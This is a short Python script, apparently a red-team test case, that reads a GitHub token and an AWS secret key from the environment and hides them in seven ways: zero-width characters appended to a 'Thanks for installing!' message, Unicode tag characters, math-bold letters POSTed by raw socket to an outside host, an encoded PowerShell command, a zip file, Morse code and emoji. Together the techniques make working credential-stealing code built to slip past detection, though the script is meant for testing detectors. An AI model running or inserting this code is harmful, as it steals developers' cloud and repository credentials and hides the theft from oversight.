# A secret from the environment (no read to witness) hidden in Unicode
# and in archives (red team, session 22; each gave no finding before):
# 1. printed as zero-width characters after a line, a bit each;
# 2. printed to stderr as tag characters (ASCII smuggling);
# 3. POSTed as mathematical bold letters;
# 4. written as PowerShell's -EncodedCommand (base64 of UTF-16LE);
# 5. written into a zip, deflated;
# 6. written as Morse code;
# 7. written as base100 (emoji).
import base64
import os
import socket
import sys
import zipfile

s = os.environ["GITHUB_TOKEN"]
a = os.environ["AWS_SECRET_ACCESS_KEY"]

# 1
print("Thanks for installing!" + "".join("\u200c" if b == "1" else "\u200b" for c in s.encode() for b in format(c, "08b")))
# 2
sys.stderr.write("done" + "".join(chr(0xE0000 + ord(c)) for c in a) + "\n")


# 3
def bold(c):
    if c.isascii() and c.isupper():
        return chr(0x1D400 + ord(c) - 65)
    if c.isascii() and c.islower():
        return chr(0x1D41A + ord(c) - 97)
    if c.isascii() and c.isdigit():
        return chr(0x1D7CE + ord(c) - 48)
    return c


body = "".join(bold(c) for c in s).encode()
try:
    c = socket.create_connection(("notes.static-cdn.net", 80), timeout=5)
    c.sendall(b"POST /n HTTP/1.1\r\nHost: notes.static-cdn.net\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    c.recv(100)
    c.close()
except OSError as e:
    print("post failed:", e)
# 4
with open("/tmp/ps.txt", "w") as f:
    f.write("powershell -NoProfile -EncodedCommand " + base64.b64encode(("$k='" + a + "'").encode("utf-16-le")).decode() + "\n")
# 5
with zipfile.ZipFile("/work/cache.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("cache/state.bin", a.encode() * 2 + b"\0" * 64)
# 6
M = {'a': '.-', 'b': '-...', 'c': '-.-.', 'd': '-..', 'e': '.', 'f': '..-.', 'g': '--.', 'h': '....', 'i': '..',
     'j': '.---', 'k': '-.-', 'l': '.-..', 'm': '--', 'n': '-.', 'o': '---', 'p': '.--.', 'q': '--.-', 'r': '.-.',
     's': '...', 't': '-', 'u': '..-', 'v': '...-', 'w': '.--', 'x': '-..-', 'y': '-.--', 'z': '--..', '0': '-----',
     '1': '.----', '2': '..---', '3': '...--', '4': '....-', '5': '.....', '6': '-....', '7': '--...', '8': '---..',
     '9': '----.', '_': '..--.-'}
with open("/tmp/m.txt", "w") as f:
    f.write(" ".join(M[c] for c in s.lower()) + "\n")
# 7 (base100: a byte b as the emoji U+1F3F7+b)
with open("/tmp/b100.txt", "w") as f:
    f.write("".join(chr(0x1F3F7 + b) for b in a.encode()) + "\n")
